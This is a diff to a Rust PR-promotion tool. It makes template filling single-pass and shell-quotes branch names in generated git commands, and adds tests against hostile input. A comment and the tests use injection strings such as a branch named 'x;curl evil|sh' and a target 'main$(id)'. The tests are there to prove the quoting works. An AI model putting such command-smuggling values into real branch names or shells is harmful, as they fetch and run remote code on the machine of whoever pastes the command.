@@ -2,8 +2,11 @@
 //! PR and the cherry-pick's result. No git or network here, so the text is testable on its own.
 
 use std::fmt::Write;
+use std::sync::LazyLock;
 
 use regex::Regex;
+
+use crate::report::markdown::{code_span, fenced};
 
 /// How the source PR reached the source branch; decides what is cherry-picked.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -89,33 +92,35 @@ impl Templates {
         pick: &PickSummary,
         excluded: &[String],
     ) -> PromotionPlan {
-        let vars = |text: &str| {
-            text.replace("{target}", &self.target_branch)
-                .replace("{source}", &self.source_branch)
-                .replace("{number}", &source.number.to_string())
-                .replace("{author}", &source.author)
-                .replace("{title}", &source.title)
-        };
-        let branch = vars(&self.branch);
+        let number = source.number.to_string();
+        let common = [
+            ("target", self.target_branch.as_str()),
+            ("source", self.source_branch.as_str()),
+            ("number", number.as_str()),
+            ("author", source.author.as_str()),
+            ("title", source.title.as_str()),
+        ];
+        let branch = fill(&self.branch, &common);
         let (files, conflict) = match pick {
             PickSummary::Clean { files } => (files.clone(), false),
             PickSummary::Conflict { files } => (files.clone(), true),
         };
-        let body = vars(&self.body)
-            .replace(
-                "{source_link}",
-                &format!("[#{}]({})", source.number, source.url),
-            )
-            .replace("{commits}", &commit_list(source))
-            .replace("{excluded}", &excluded_list(excluded, &self.target_branch))
-            .replace(
-                "{conflicts}",
-                &if conflict {
-                    conflict_help(&files, &branch, source, &self.target_branch)
-                } else {
-                    String::new()
-                },
-            );
+        let source_link = format!("[#{}]({})", source.number, source.url);
+        let commits = commit_list(source);
+        let excluded_text = excluded_list(excluded, &self.target_branch);
+        let conflicts = if conflict {
+            conflict_help(&files, &branch, source, &self.target_branch)
+        } else {
+            String::new()
+        };
+        let mut body_vars = common.to_vec();
+        body_vars.extend([
+            ("source_link", source_link.as_str()),
+            ("commits", commits.as_str()),
+            ("excluded", excluded_text.as_str()),
+            ("conflicts", conflicts.as_str()),
+        ]);
+        let body = fill(&self.body, &body_vars);
         let mut labels = self.labels.clone();
         if let Some(pattern) = &self.copy_labels {
             labels.extend(
@@ -133,7 +138,7 @@ impl Templates {
         PromotionPlan {
             source: source.number,
             base: self.target_branch.clone(),
-            title: vars(&self.title),
+            title: fill(&self.title, &common),
             body: body.trim_end().to_string() + "\n",
             labels,
             draft: self.draft || conflict,
@@ -143,6 +148,21 @@ impl Templates {
             branch,
         }
     }
+}
+
+/// Replaces each `{name}` of `template` with its value in a single pass over the template, so a
+/// value that itself reads `{commits}` (a PR title, a commit subject) stays text. Unknown names
+/// are kept as written.
+fn fill(template: &str, vars: &[(&str, &str)]) -> String {
+    static PLACEHOLDER: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"\{([a-z_]+)\}").expect("a valid pattern"));
+    PLACEHOLDER
+        .replace_all(template, |caps: &regex::Captures<'_>| {
+            vars.iter()
+                .find(|(name, _)| *name == &caps[1])
+                .map_or_else(|| caps[0].to_string(), |(_, value)| value.to_string())
+        })
+        .into_owned()
 }
 
 fn commit_list(source: &SourcePr) -> String {
@@ -164,35 +184,47 @@ fn excluded_list(excluded: &[String], target: &str) -> String {
     }
     let mut out = format!("Not promoted (excluded paths; `{target}` keeps its own version):\n");
     for path in excluded {
-        let _ = writeln!(out, "- `{path}`");
+        let _ = writeln!(out, "- {}", code_span(path));
     }
     out.push('\n');
     out
 }
 
-/// The exact steps to finish a conflicted promotion by hand.
+/// The exact steps to finish a conflicted promotion by hand. Branch names come from templates
+/// that may carry a PR's title, so every name is shell-quoted (a branch named `x;curl evil|sh`
+/// stays one word when pasted) and the fence outgrows any backtick run inside it.
 fn conflict_help(files: &[String], branch: &str, source: &SourcePr, target: &str) -> String {
     let mut out = String::from(
         "> [!WARNING]\n> The cherry-pick conflicts. This draft PR holds the conflicted files \
          **with their conflict markers**; nothing was resolved automatically.\n\nConflicted files:\n",
     );
     for file in files {
-        let _ = writeln!(out, "- `{file}`");
+        let _ = writeln!(out, "- {}", code_span(file));
     }
     let picks: Vec<String> = source
         .commits
         .iter()
         .map(|(sha, _)| match source.merge_kind {
-            MergeKind::Merge => format!("git cherry-pick -x -m 1 {sha}"),
-            _ => format!("git cherry-pick -x {sha}"),
+            MergeKind::Merge => format!("git cherry-pick -x -m 1 {}", shell_word(sha)),
+            _ => format!("git cherry-pick -x {}", shell_word(sha)),
         })
         .collect();
-    let _ = write!(
-        out,
-        "\nTo redo it by hand:\n\n```sh\ngit fetch origin {target}\ngit switch -C {branch} origin/{target}\n{}\n# resolve, `git add` the files, `git cherry-pick --continue`\ngit push --force-with-lease origin {branch}\n```\n",
+    let (target_ref, branch_ref) = (shell_word(target), shell_word(branch));
+    let remote_target = shell_word(&format!("origin/{target}"));
+    let script = format!(
+        "git fetch origin {target_ref}\ngit switch -C {branch_ref} {remote_target}\n{}\n# resolve, `git add` the files, `git cherry-pick --continue`\ngit push --force-with-lease origin {branch_ref}\n",
         picks.join("\n")
     );
+    let _ = write!(out, "\nTo redo it by hand:\n\n{}", fenced("sh", &script));
     out
+}
+
+/// One shell word. Git refuses NUL in names, so the fallback only keeps a malformed name from
+/// being pasted as a command.
+fn shell_word(text: &str) -> String {
+    shlex::try_quote(text)
+        .map(|quoted| quoted.into_owned())
+        .unwrap_or_else(|_| "'<name with a NUL byte>'".to_string())
 }
 
 impl PromotionPlan {
@@ -297,5 +329,152 @@ mod tests {
                 .contains("git switch -C promote/master/pr-42 origin/master")
         );
         assert!(plan.to_text().contains("CONFLICT"));
+    }
+}
+
+#[cfg(test)]
+mod hostile_input {
+    use super::*;
+
+    fn templates(body: &str) -> Templates {
+        Templates {
+            source_branch: "develop".into(),
+            target_branch: "master".into(),
+            branch: DEFAULT_BRANCH_TEMPLATE.into(),
+            title: DEFAULT_TITLE_TEMPLATE.into(),
+            body: body.into(),
+            labels: Vec::new(),
+            copy_labels: None,
+            draft: false,
+        }
+    }
+
+    fn source(title: &str, subject: &str) -> SourcePr {
+        SourcePr {
+            number: 7,
+            title: title.into(),
+            url: "https://github.com/acme/manifests/pull/7".into(),
+            author: "mallory".into(),
+            labels: Vec::new(),
+            commits: vec![(
+                "0123456789abcdef0123456789abcdef01234567".into(),
+                subject.into(),
+            )],
+            merge_kind: MergeKind::Squash,
+        }
+    }
+
+    #[test]
+    fn placeholders_inside_substituted_text_stay_text() {
+        let plan = templates("{title}\n\n{commits}").plan(
+            &source(
+                "Run {commits} {excluded} {source_link}",
+                "Sneak {excluded}{conflicts}",
+            ),
+            &PickSummary::Clean { files: Vec::new() },
+            &["overlays/staging/kustomization.yaml".into()],
+        );
+        assert_eq!(
+            plan.title,
+            "[master] Run {commits} {excluded} {source_link}"
+        );
+        expect_test::expect![[r#"
+            Run {commits} {excluded} {source_link}
+
+            Cherry-picked (squash merge):
+            - 0123456789ab Sneak {excluded}{conflicts}
+        "#]]
+        .assert_eq(&plan.body);
+    }
+
+    #[test]
+    fn unknown_placeholders_are_kept_as_written() {
+        let plan = templates("{nope} {target}").plan(
+            &source("t", "s"),
+            &PickSummary::Clean { files: Vec::new() },
+            &[],
+        );
+        assert_eq!(plan.body, "{nope} master\n");
+    }
+
+    fn conflicted(branch: &str, target: &str, file: &str) -> PromotionPlan {
+        Templates {
+            target_branch: target.into(),
+            branch: branch.into(),
+            ..templates(DEFAULT_BODY_TEMPLATE)
+        }
+        .plan(
+            &source("t", "s"),
+            &PickSummary::Conflict {
+                files: vec![file.into()],
+            },
+            &[],
+        )
+    }
+
+    /// The shell commands of the manual-steps block, as a reader would copy them.
+    fn manual_steps(body: &str) -> Vec<String> {
+        let start = body.find("To redo it by hand:").expect("manual steps");
+        let block = &body[start..];
+        let open = block.find("\n`").expect("a fence") + 1;
+        let fence_len = block[open..].chars().take_while(|c| *c == '`').count();
+        let fence = "`".repeat(fence_len);
+        let after_info = open + block[open..].find('\n').unwrap() + 1;
+        let close = block[after_info..]
+            .lines()
+            .position(|l| l.starts_with(&fence))
+            .expect("a closing fence");
+        block[after_info..]
+            .lines()
+            .take(close)
+            .filter(|l| !l.starts_with('#'))
+            .map(str::to_string)
+            .collect()
+    }
+
+    #[test]
+    fn branch_names_and_shas_are_shell_quoted_in_the_manual_steps() {
+        let plan = conflicted("promote/x;curl evil|sh", "main$(id)", "base/a.yaml");
+        let steps = manual_steps(&plan.body);
+        expect_test::expect![[r#"
+            [
+                "git fetch origin 'main$(id)'",
+                "git switch -C 'promote/x;curl evil|sh' 'origin/main$(id)'",
+                "git cherry-pick -x 0123456789abcdef0123456789abcdef01234567",
+                "git push --force-with-lease origin 'promote/x;curl evil|sh'",
+            ]
+        "#]]
+        .assert_debug_eq(&steps);
+        for step in &steps {
+            let words = shlex::split(step).expect("each step parses as shell words");
+            assert!(words.len() >= 3, "{step}");
+        }
+        let switch = shlex::split(&steps[1]).unwrap();
+        assert_eq!(
+            switch,
+            [
+                "git",
+                "switch",
+                "-C",
+                "promote/x;curl evil|sh",
+                "origin/main$(id)"
+            ]
+        );
+    }
+
+    #[test]
+    fn backticks_in_names_cannot_close_the_manual_steps_fence() {
+        let plan = conflicted("x```y", "main", "base/```.yaml");
+        let steps = manual_steps(&plan.body);
+        assert!(
+            steps
+                .last()
+                .unwrap()
+                .starts_with("git push --force-with-lease origin "),
+            "{}",
+            plan.body
+        );
+        assert_eq!(steps.len(), 4, "{}", plan.body);
+        assert!(!plan.body.contains("- `base/```.yaml`"), "{}", plan.body);
     }
 }
